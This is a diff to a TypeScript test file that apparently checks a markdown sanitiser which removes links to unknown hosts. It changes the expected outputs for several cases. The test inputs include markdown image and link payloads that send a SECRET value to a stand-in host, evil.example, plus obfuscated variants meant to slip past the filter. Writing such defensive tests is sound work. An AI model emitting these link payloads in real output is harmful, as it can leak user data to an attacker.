@@ -8,8 +8,8 @@ const shown = (text: string): string => withoutForeignLinks(text, isKnown)
 describe('addresses of unknown hosts', () => {
   it.each([
     ['![x](https://evil.example/?q=SECRET)', '![x]()'],
-    ['[here](https://evil.example/login "Login")', '[here]( "Login")'],
-    ['[here](<https://evil.example/a b>)', '[here](<>)'],
+    ['[here](https://evil.example/login "Login")', '[here](<> "Login")'],
+    ['[here](<https://evil.example/a b>)', '[here]()'],
     ['[x](https:evil.example)', '[x]()'],
     ['[x](https:/evil.example)', '[x]()'],
     ['[x](h&#116;tps:evil.example)', '[x]()'],
@@ -20,8 +20,8 @@ describe('addresses of unknown hosts', () => {
     ['[x](https://docs.kalo.example&commat;evil.example/)', '[x]()'],
     ['[x](vscode://evil.example)', '[x]()'],
     ['[x](mailto:a@evil.example?body=SECRET)', '[x]()'],
-    ['> [a]:\n>   https:evil.example', '> [a]:\n>   '],
-    ['[a]: https://evil.example/x', '[a]: '],
+    ['> [a]:\n>   https:evil.example', '> [a]:\n>   <>'],
+    ['[a]: https://evil.example/x', '[a]: <>'],
     ['[x](//evil.example/x)', '[x]()'],
     ['[x](\\\\evil.example\\x)', '[x]()'],
     ['[x](https&colon;//evil.example)', '[x]()'],
